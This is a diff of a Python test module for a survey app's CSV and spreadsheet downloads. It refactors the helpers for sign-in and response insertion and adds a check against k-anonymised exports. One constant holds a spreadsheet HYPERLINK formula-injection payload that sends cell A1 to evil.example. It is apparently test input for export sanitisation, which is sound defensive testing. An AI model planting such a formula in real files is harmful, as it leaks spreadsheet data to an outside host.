@@ -10,17 +10,15 @@ import uuid
 
 import numpy as np
 import pytest
-from sqlalchemy import insert, text
+from sqlalchemy import insert, select, text
 
 from survey_app.extensions import db
-from survey_app.models import Answer, Comment, Response, Wave
+from survey_app.models import Comment, Response, ServiceArea, Wave
 from survey_app.services import exports
-from survey_app.services.accounts.sign_in import ensure_user
-from survey_app.services.instruments import frozen_instrument
 from survey_app.services.waves import close_wave
-from tests.conftest import csrf_token
+from tests import factories
+from tests.factories import sign_in
 
-PASSWORD = "downloads test passphrase"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 SMALL_CELL_COMMENT = "Only two of us work here, so you can tell who wrote this."
 
@@ -34,35 +32,20 @@ def insert_responses(
     Returns the response ids in insertion order.
     """
     rng = np.random.default_rng(seed)
-    instrument = frozen_instrument(wave.instrument_version)
-    areas = {a.key: a.id for a in wave.relationship.service_areas}
-    responses, answers, ids = [], [], []
-    for side, area, role, n in cells:
-        for _ in range(n):
-            rid = uuid.UUID(bytes=rng.bytes(16), version=4)
-            ids.append(rid)
-            responses.append(
-                {
-                    "id": rid,
-                    "wave_id": wave.id,
-                    "instrument_version_id": wave.instrument_version_id,
-                    "side": side,
-                    "service_area_id": areas[area] if area else None,
-                    "role_level": role,
-                }
-            )
-            for item_no, item in enumerate(instrument.items):
-                draw = rng.random()
-                if draw < 0.05:
-                    continue  # skipped
-                if item.dont_know and draw < 0.12:
-                    answers.append({"response_id": rid, "item_no": item_no, "value": None})
-                else:
-                    value = int(rng.integers(1, instrument.scale.points + 1))
-                    answers.append({"response_id": rid, "item_no": item_no, "value": value})
-    db.session.execute(insert(Response), responses)
-    db.session.execute(insert(Answer), answers)
-    return ids
+
+    def answers(instrument, side):  # type: ignore[no-untyped-def]
+        for item_no, item in enumerate(instrument.items):
+            draw = rng.random()
+            if draw < 0.05:
+                continue  # skipped
+            if item.dont_know and draw < 0.12:
+                yield item_no, None
+            else:
+                yield item_no, int(rng.integers(1, instrument.scale.points + 1))
+
+    return factories.insert_responses(
+        wave, cells, answers, response_id=lambda: uuid.UUID(bytes=rng.bytes(16), version=4)
+    )
 
 
 def make_history(factory, *, labels=("2024-Q1", "2024-Q2")):
@@ -120,27 +103,37 @@ def download_bytes(table: str, fmt: str, relationship, wave: str | None = None) 
     return b"".join(prepared.chunks)
 
 
+def as_stored(rows: list[list]) -> list[list]:
+    """Rows of a ``responses`` download (header first) with each response's side, service area
+    and role level as stored: the original file a council holds, which the k-anonymous
+    download generalises (``_other``) for small groups."""
+    header, *body = rows
+    ids = [uuid.UUID(str(row[0])) for row in body]
+    stored = {
+        rid: (side, key, role)
+        for rid, side, key, role in db.session.execute(
+            select(Response.id, Response.side, ServiceArea.key, Response.role_level)
+            .outerjoin(ServiceArea, ServiceArea.id == Response.service_area_id)
+            .where(Response.id.in_(ids))
+        )
+    }
+    columns = [header.index(c) for c in ("side", "service_area", "role_level")]
+    out = [header]
+    for rid, row in zip(ids, body, strict=True):
+        row = list(row)
+        for column, value in zip(columns, stored[rid], strict=True):
+            row[column] = value or ""
+        out.append(row)
+    return out
+
+
 def read_csv(data: bytes) -> list[list[str]]:
     assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a UTF-8 byte-order mark"
     return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))
 
 
-def signed_in_client(app, role: str):
-    client = app.test_client()
-    email = f"{role}@exchange.example"
-    ensure_user(email, f"Exchange {role}", role, PASSWORD)
-    db.session.commit()
-    page = client.get("/sign-in")
-    answer = client.post(
-        "/sign-in",
-        data={
-            "csrf_token": csrf_token(page.get_data(as_text=True)),
-            "email": email,
-            "password": PASSWORD,
-        },
-    )
-    assert answer.status_code == 302
-    return client
+def signed_in_client(app, role: str):  # type: ignore[no-untyped-def]
+    return sign_in(app, role, email=f"{role}@exchange.example", name=f"Exchange {role}")
 
 
 def database_digest() -> str:
